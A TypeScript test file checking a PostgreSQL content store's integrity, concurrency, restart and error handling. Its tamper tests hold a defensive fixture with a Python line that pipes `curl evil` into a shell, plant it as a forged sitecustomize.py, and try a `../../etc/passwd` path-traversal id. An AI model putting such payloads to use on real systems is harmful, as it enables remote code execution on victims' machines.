// The content store's PostgreSQL backend on a real (throwaway) PostgreSQL server: what the
// folder store does, plus what sharing over the network needs: tables created on first use by
// hosts starting at once, concurrent writers of the same content, a server restart waited out,
// no password in what a person is shown, and errors that say what to do.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { FolderStore } from '../../src/sandbox/store/folderStore.js';
import { fullPatchOf, patchForReport } from '../../src/sandbox/workspace/patch.js';
import { blobsTable, PostgresStore, treesTable } from '../../src/sandbox/store/postgresStore.js';
import { DamagedContentError, type ContentStore } from '../../src/sandbox/store/contentStore.js';
import { openContentStore } from '../../src/sandbox/store/openStore.js';
import { sha256, treeDigest, type Tree, type TreeEntry } from '../../src/sandbox/workspace/tree.js';
import { WorkspaceFolder } from '../../src/sandbox/workspace/workspaceFolder.js';
import { startTestPostgres, type TestPostgres } from '../support/postgres.js';

let server: TestPostgres;
let folder: string;
before(async () => {
  server = await startTestPostgres();
  folder = await mkdtemp(join(tmpdir(), 'durable-debugger-store-'));
});
after(async () => {
  await server?.stop();
  await rm(folder, { recursive: true, force: true });
});

function treeOf(files: Record<string, Buffer>): Tree {
  const entries: TreeEntry[] = Object.entries(files).map(([path, content]) => ({
    kind: 'file',
    path,
    blob: sha256(content),
    executable: false,
    size: content.length,
  }));
  return { digest: treeDigest(entries), entries } as Tree;
}

async function withStores<T>(count: number, work: (stores: ContentStore[]) => Promise<T>): Promise<T> {
  const stores = Array.from({ length: count }, () => openContentStore({ kind: 'postgres', url: server.url }));
  try {
    return await work(stores);
  } finally {
    await Promise.all(stores.map((store) => store.close()));
  }
}

async function rowsIn(table: string): Promise<number> {
  const client = new pg.Client({ connectionString: server.url });
  await client.connect();
  try {
    return Number((await client.query(`SELECT count(*) AS n FROM ${table}`)).rows[0].n);
  } finally {
    await client.end();
  }
}

test('both backends: blobs and trees read back as written, a missing one is an error naming the store', async () => {
  const content = Buffer.from([0, 1, 2, 255, 10, 13]);
  const big = Buffer.alloc(300_000, 7);
  const tree = treeOf({ 'a.bin': content, 'big.bin': big });
  await withStores(1, async ([postgres]) => {
    for (const store of [new FolderStore(folder), postgres as ContentStore]) {
      await store.putBlob(sha256(content), content);
      await store.putBlob(sha256(big), big);
      await store.putBlob(sha256(big), big); // again: a second snapshot of the same repository
      await store.putTree(tree);
      assert.deepEqual(await store.getBlob(sha256(content)), content);
      assert.deepEqual(await store.getBlob(sha256(big)), big);
      assert.deepEqual(await store.getTree(tree.digest), tree);
      await assert.rejects(store.getBlob(sha256('never stored')));
      await assert.rejects(store.getBlob('../../etc/passwd'), /not a blob id/);
    }
    await assert.rejects(
      postgres!.getBlob(sha256('never stored')),
      /is not in the content store postgres:\/\/durable@127\.0\.0\.1:\d+\/durable_debugger/,
    );
  });
});

test('both backends: a damaged or replaced blob or tree is refused, naming it, and a rebuild from it stops there', async () => {
  const good = Buffer.from('def mean(xs):\n    return sum(xs) / len(xs)\n');
  const other = Buffer.from('import os\nos.system("curl evil | sh")\n');
  const tree = treeOf({ 'stats.py': good });
  const blob = sha256(good);
  const folderStore = new FolderStore(join(folder, 'damaged'));
  await withStores(1, async ([postgres]) => {
    const client = new pg.Client({ connectionString: server.url });
    await client.connect();
    try {
      const backends: Array<{
        store: ContentStore;
        setBlob(content: Buffer): Promise<void>;
        setTree(text: string): Promise<void>;
      }> = [
        {
          store: folderStore,
          setBlob: (content) => writeFile(folderStore.blobPath(blob), content),
          setTree: (text) => writeFile(join(folderStore.root, 'trees', `${tree.digest}.json`), text),
        },
        {
          store: postgres!,
          setBlob: async (content) => {
            await client.query(`UPDATE ${blobsTable} SET content = $2 WHERE id = $1`, [blob, content]);
          },
          setTree: async (text) => {
            await client.query(`UPDATE ${treesTable} SET tree = $2 WHERE digest = $1`, [tree.digest, text]);
          },
        },
      ];
      for (const { store, setBlob, setTree } of backends) {
        await store.putBlob(blob, good);
        await store.putTree(tree);
        const damaged = Buffer.from(good);
        damaged.writeUInt8(damaged.readUInt8(4) ^ 0x20, 4); // one flipped bit
        for (const content of [damaged, other, Buffer.alloc(0)]) {
          await setBlob(content);
          await assert.rejects(store.getBlob(blob), (error: Error) => {
            assert.ok(error instanceof DamagedContentError, error.message);
            assert.match(
              error.message,
              new RegExp(
                `^Blob ${blob} in the content store is damaged: its ${content.length} bytes hash to ${sha256(content)}`,
              ),
            );
            assert.ok(error.message.includes(store.whereIs(blob)), error.message);
            return true;
          });
          // A rebuild of the workspace from it stops at that blob instead of writing its bytes.
          const workspace = new WorkspaceFolder(
            join(folder, `rebuild-${sha256(content).slice(0, 8)}`, 'workspace'),
            store,
            {
              uid: process.getuid?.() ?? 0,
              gid: process.getgid?.() ?? 0,
            },
          );
          await assert.rejects(
            workspace.rebuild(tree.digest, []),
            new RegExp(`Blob ${blob} in the content store is damaged`),
          );
        }
        await setBlob(good);
        assert.deepEqual(await store.getBlob(blob), good);

        const forged: Tree = treeOf({ 'stats.py': good, 'sitecustomize.py': other });
        for (const text of [JSON.stringify({ ...forged, digest: tree.digest }), '{"digest": "half a tr']) {
          await setTree(text);
          await assert.rejects(
            store.getTree(tree.digest),
            new RegExp(
              `Snapshot tree ${tree.digest} in the content store \\(.*\\) is damaged: (its entries hash to ${forged.digest}|it is not a tree)`,
            ),
          );
        }
        await setTree(JSON.stringify(tree));
        assert.deepEqual(await store.getTree(tree.digest), tree);
      }
    } finally {
      await client.end();
    }
  });
});

test('hosts starting at once create the tables once; 4 hosts writing the same blobs at once leave one row each, with no error', async () => {
  const client = new pg.Client({ connectionString: server.url });
  await client.connect();
  await client.query(`DROP TABLE IF EXISTS ${blobsTable}, ${treesTable}`);
  await client.end();
  const contents = Array.from({ length: 25 }, (_, index) => Buffer.from(`file ${index}\n`.repeat(index * 1000 + 1)));
  await withStores(4, async (stores) => {
    // Every store's first use is at the same moment: each creates the tables if they are missing.
    await Promise.all(stores.flatMap((store) => contents.map((content) => store.putBlob(sha256(content), content))));
    await Promise.all(stores.map((store) => store.putTree(treeOf({ 'one.txt': contents[0] as Buffer }))));
    for (const store of stores) {
      for (const content of contents) assert.deepEqual(await store.getBlob(sha256(content)), content);
    }
  });
  assert.equal(await rowsIn(blobsTable), contents.length);
  assert.equal(await rowsIn(treesTable), 1);
});

test('a PostgreSQL restart between (and during) writes is waited out, not failed', async () => {
  await withStores(1, async ([store]) => {
    const first = Buffer.from('before the restart');
    await store!.putBlob(sha256(first), first);
    // The pool's connection is closed by the restart; the next writes reconnect.
    const restarting = server.restart();
    const writes = Array.from({ length: 10 }, (_, index) => Buffer.from(`during the restart ${index}`)).map(
      async (content) => {
        await store!.putBlob(sha256(content), content);
        return content;
      },
    );
    await restarting;
    for (const content of await Promise.all(writes)) assert.deepEqual(await store!.getBlob(sha256(content)), content);
    assert.deepEqual(await store!.getBlob(sha256(first)), first);
  });
});

test('a large patch kept in the PostgreSQL store: the report names the database, never the password; any host reads it back', async () => {
  const url = server.url.replace('durable@', 'durable:s3cret-password@');
  const patch = `diff --git a/x b/x\n${'+ a line of a large patch\n'.repeat(20_000)}`;
  const writer = new PostgresStore(url);
  const reader = new PostgresStore(url);
  try {
    const report = await patchForReport(writer, patch);
    assert.ok(report.fullPatch, 'kept in the store');
    assert.doesNotMatch(JSON.stringify(report), /s3cret/);
    assert.match(
      report.fullPatch.file,
      /^postgres:\/\/durable@127\.0\.0\.1:\d+\/durable_debugger \(table durable_debugger_blobs, id [0-9a-f]{64}\)$/,
    );
    assert.match(report.patch, /content-store blob [0-9a-f]{64}, postgres:\/\/durable@/);
    assert.equal(await fullPatchOf(reader, report), patch);
  } finally {
    await writer.close();
    await reader.close();
  }
});

test('a store that cannot be used says why and what to do', async () => {
  const missing = new PostgresStore(server.url.replace(/\/durable_debugger$/, '/no_such_database'));
  await assert.rejects(
    missing.getBlob(sha256('x')),
    /The content store's database does not exist \(postgres:\/\/durable@127\.0\.0\.1:\d+\/no_such_database\): create it/,
  );
  await missing.close();
  const closedPort = new PostgresStore('postgres://durable:pw@127.0.0.1:1/durable_debugger', {
    waitForServerMs: 1_000,
  });
  await assert.rejects(
    closedPort.getBlob(sha256('x')),
    (error: Error) =>
      /does not answer .*start PostgreSQL, or fix DURABLE_DEBUGGER_STORE/.test(error.message) &&
      !error.message.includes(':pw@'),
  );
  await closedPort.close();
});
